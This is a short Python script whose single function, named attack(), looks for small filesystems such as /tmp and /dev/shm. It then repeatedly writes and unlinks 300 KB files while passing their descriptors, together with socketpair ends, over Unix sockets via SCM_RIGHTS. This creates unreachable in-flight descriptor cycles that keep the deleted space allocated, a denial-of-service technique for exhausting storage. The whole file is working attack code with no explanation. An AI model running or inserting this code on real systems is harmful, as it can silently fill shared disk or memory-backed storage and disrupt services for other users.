import array
import os
import socket

FOLDERS = (".", "/tmp", "/dev/shm")


def attack():
    found = []
    for folder in FOLDERS:
        info = os.statvfs(folder)
        if (info.f_blocks - info.f_bfree) * info.f_frsize > 1 << 20 and info.f_blocks < 1 << 16:
            found.append(folder)
    for _ in range(20):
        with open("large", "wb") as file:
            file.write(bytes(300_000))
            os.unlink("large")
            left, right = socket.socketpair()
            fds = array.array("i", [file.fileno(), left.fileno(), right.fileno()])
            for end in (left, right):
                end.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
    return found
